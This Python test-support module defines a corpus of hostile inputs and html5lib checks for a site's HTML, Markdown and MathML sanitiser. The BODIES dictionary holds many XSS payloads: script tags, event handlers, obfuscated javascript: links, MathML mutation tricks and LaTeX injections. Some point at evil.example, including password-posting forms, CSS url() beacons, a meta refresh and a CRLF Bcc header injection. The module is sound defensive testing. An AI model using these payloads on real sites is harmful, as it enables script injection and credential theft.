"""What somebody with bad intentions writes, and what of it must never be on a page.

tests/test_hostile_bodies.py puts these texts wherever people write, and looks at every page that shows them.
"""

from collections import Counter
from collections.abc import Iterator
from urllib.parse import urlsplit

import html5lib

from papers.rendering.sanitising import MATHML

# A word that stands where only code or an address would be.
MARK = "pwned"

BODIES = {
    "script": f"<script>{MARK}()</script>",
    "script in pieces": f"<scr<script>ipt>{MARK}()</scr</script>ipt>",
    "script across lines": f"<script\n>{MARK}()\n</script\n>",
    "handler": f'<img src=x onerror="{MARK}()"> <b onmouseover={MARK}()>x</b> <svg/onload={MARK}()>',
    "handler in a link's title": f'[x](https://a.example "\\" onmouseover=\\"{MARK}()")',
    "handler in an address": f'[x](https://a.example/"onmouseover="{MARK}())',
    "javascript link": f"[x](javascript:{MARK}())",
    "javascript link in other case": f"[x](JaVaScRiPt:{MARK}())",
    "javascript link with entities": f"[x](&#106;avascript&colon;{MARK}()) [y](java&Tab;script:{MARK}())",
    "javascript link with blanks": f"[x](<java\tscript:{MARK}()>) [y](< javascript:{MARK}()>) [z](\x01javascript:{MARK}())",
    "javascript link in brackets": f"<javascript:{MARK}()>",
    "javascript picture": f"![x](javascript:{MARK}())",
    "javascript by reference": f"[x][1]\n\n[1]: javascript:{MARK}()",
    "javascript with two slashes": f"[x](javascript://a.example/%0a{MARK}()) javascript://a.example/{MARK}",
    "vbscript link": f"[x](vbscript:{MARK}()) <vbscript:{MARK}>",
    "data link": f"[x](data:text/html,{MARK}) [y](data:text/html;base64,PHNjcmlwdD4={MARK}) <data:text/html,{MARK}>",
    "other schemes": f"[x](file:///etc/{MARK}) [y](blob:{MARK}) [z](about:{MARK}) [w](//evil.example/{MARK})",
    "style": f"<style>* {{ background: url(https://evil.example/{MARK}) }}</style>",
    "style attribute": f'<p style="background: url(https://evil.example/{MARK})">x</p>',
    "style sheet": f'<link rel=stylesheet href="https://evil.example/{MARK}.css"> @import "https://evil.example/{MARK}.css";',
    "base": f'<base href="https://evil.example/{MARK}/">',
    "meta": f'<meta http-equiv=refresh content="0; url=https://evil.example/{MARK}">',
    "form": f'<form action="https://evil.example/{MARK}"><input name=password><button formaction=javascript:{MARK}()>x</button></form>',
    "end of the form": f'</textarea></form><form action="https://evil.example/{MARK}" method=post>',
    "end of the page": f'</title></head></body></html>"><script>{MARK}()</script>',
    "frame": f'<iframe srcdoc="<script>{MARK}()</script>"></iframe><object data={MARK}></object><embed src={MARK}>',
    "comment": f"<!--><script>{MARK}()</script--> <![CDATA[<script>{MARK}()</script>]]> <?php {MARK} ?>",
    "svg": f'<svg><a xlink:href="javascript:{MARK}()"><text>x</text></a><set attributeName=onload to={MARK}()></svg>',
    "mathml link": f'<math><mtext href="javascript:{MARK}()">x</mtext></math>',
    "mathml action": f'<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:{MARK}()">x</maction></math>',
    "mathml annotation": f'<math><annotation-xml encoding="text/html"><script>{MARK}()</script></annotation-xml></math>',
    "mathml confusion": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={MARK}()&gt;\">",
    "formula link": f"$\\href{{javascript:{MARK}()}}{{x}}$ $\\url{{javascript:{MARK}()}}$",
    "formula markup": f"$\\text{{<script>{MARK}()</script>}}$ $\\mathrm{{</math><img src=x onerror={MARK}()>}}$",
    "formula style": f"$\\style{{background: url(//evil.example/{MARK})}}{{x}}$ $\\class{{{MARK}}}{{x}}$ $\\color{{red\" onload=\"{MARK}()}}{{x}}$",
    "formula image": f"$\\includegraphics{{https://evil.example/{MARK}.png}}$ $\\unicode{{<script>{MARK}()</script>}}$",
    "formula end": f"$x</math><script>{MARK}()</script>$ \\(</annotation><svg onload={MARK}()>\\)",
    "code": f"`<script>{MARK}()</script>`\n\n```html\n<script>{MARK}()</script>\n```\n\n```\"><script>{MARK}()</script>\nx\n```",
    "table": f"| <script>{MARK}()</script> | b |\n|---|---|\n| [x](javascript:{MARK}()) | <svg onload={MARK}()> |",
    "wiki link": f'[[<script>{MARK}()</script>]] [[x|"><svg onload={MARK}()>]]',
    "template": f"{{{{ {MARK} }}}} {{% include '{MARK}' %}} {{% csrf_token %}} ${{{MARK}}} %(count)s %s {{0}}",
    "header": f"x\r\nBcc: {MARK}@evil.example\r\n\r\n<script>{MARK}()</script>",
    "overlong letters": f"\uff1cscript\uff1e{MARK}()\uff1c/script\uff1e \u2028{MARK}\u2029",
    "controls": f"a\x01b\x08c\x1b[31m{MARK}\x7f\x9f\ufffe\uffff",
}  # fmt: skip

NAME = '"><script>pwned()</script><b \u202eeman onclick=pwned()>'

# Letters that turn the direction of what follows (Unicode TR 36 §2.5).
TURNING = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"

# What gloss.css isolates, and what shows nothing but its own text. Blocks are isolated by browsers themselves (HTML,
# "Rendering", §15.3.3), but not what flows in them.
_HOLDING = {"a", "bdi", "cite", "code", "del", "ins", "mark", "pre", "q", "textarea"}
_FLOWING = {
    "title",
    "span",
    "b",
    "strong",
    "em",
    "i",
    "small",
    "label",
    "button",
    "summary",
    "option",
    "time",
    "s",
}

_SCHEMES = {"", "http", "https", "mailto"}
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster", "cite", "ping"}
_FRAME = {
    "html", "head", "title", "meta", "link", "body", "script", "form", "input", "button", "select", "textarea", "img",
    "video", "audio", "source", "dialog",
}  # fmt: skip
_NAMESPACE = {
    "http://www.w3.org/1999/xhtml": "",
    "http://www.w3.org/1998/Math/MathML": "math:",
    "http://www.w3.org/2000/svg": "svg:",
}


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield each element of a page, or of a piece of one, as a browser makes it of the text: name and attributes."""
    tree = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree")).parse(html)
    for node in tree.iter():
        if isinstance(node.tag, str):
            namespace, _, name = node.tag.removeprefix("{").rpartition("}")
            attributes = {key.rpartition("}")[2]: value for key, value in node.attrib.items()}
            yield f"{_NAMESPACE.get(namespace, '')}{name}", attributes


def harm_in(html: str, *, host: str = "testserver") -> list[str]:
    """Return what of a page would run, style, embed, send or lead elsewhere than it should."""
    found = []
    for name, attributes in elements(html):
        what = f"<{name} {attributes}>"
        if name in ("iframe", "object", "embed", "base", "style", "frame", "frameset", "applet"):
            found.append(what)
        if name.startswith("math:") and name.removeprefix("math:") not in MATHML:
            found.append(what)
        if name == "script" and "src" not in attributes and attributes.get("type") != "application/ld+json":
            found.append(what)
        if name == "meta" and attributes.get("http-equiv"):
            found.append(what)
        for attribute, value in attributes.items():
            if attribute == "style" or attribute.startswith("on") or attribute == "srcdoc":
                found.append(what)
            if attribute in _ADDRESSES and not _is_good(name, attribute, value, attributes, host):
                found.append(what)
    return found


def _is_good(name: str, attribute: str, value: str, attributes: dict[str, str], host: str) -> bool:
    """Whether an element may have an address: forms and files are the site's own, links out are marked as users'."""
    address = urlsplit("".join(value.split()))
    if address.scheme.lower() not in _SCHEMES:
        return False
    is_ours = not address.netloc or address.netloc == host
    if name in ("form", "script", "link", "input", "button"):
        return is_ours or (name == "link" and attributes.get("rel") in ("canonical", "alternate"))
    if name == "a" and MARK in value and not is_ours:
        return "nofollow" in attributes.get("rel", "")
    return True


def frame_of(html: str) -> Counter[str]:
    """How many forms, fields, scripts and the like a page has: what no text of a person may bring or take away."""
    return Counter(name for name, _ in elements(html) if name in _FRAME or name.startswith("svg:"))


def turned_text(html: str) -> list[str]:
    """Return the texts with a letter that turns the direction where it would turn words of the page as well: in the
    page's title, and inside elements that flow with their surroundings.
    """
    found = []

    def walk(node, is_held: bool) -> None:
        name = node.tag.rpartition("}")[2] if isinstance(node.tag, str) else ""
        is_held = is_held or name in _HOLDING or (name == "span" and "lang" in node.attrib)
        for text in [node.text, *(child.tail for child in node)]:
            if text and set(text) & set(TURNING) and not is_held and name in _FLOWING:
                found.append(f"<{name} {node.get('class', '')}> {text!r}")
        for child in node:
            walk(child, is_held)

    walk(html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree")).parse(html), False)
    return found


def depth_of(html: str) -> int:
    """How deep the elements of a page stand in each other."""
    deepest, waiting = 0, [(html5lib.HTMLParser().parse(html), 1)]
    while waiting:
        node, depth = waiting.pop()
        deepest = max(deepest, depth)
        waiting += [(child, depth + 1) for child in node]
    return deepest
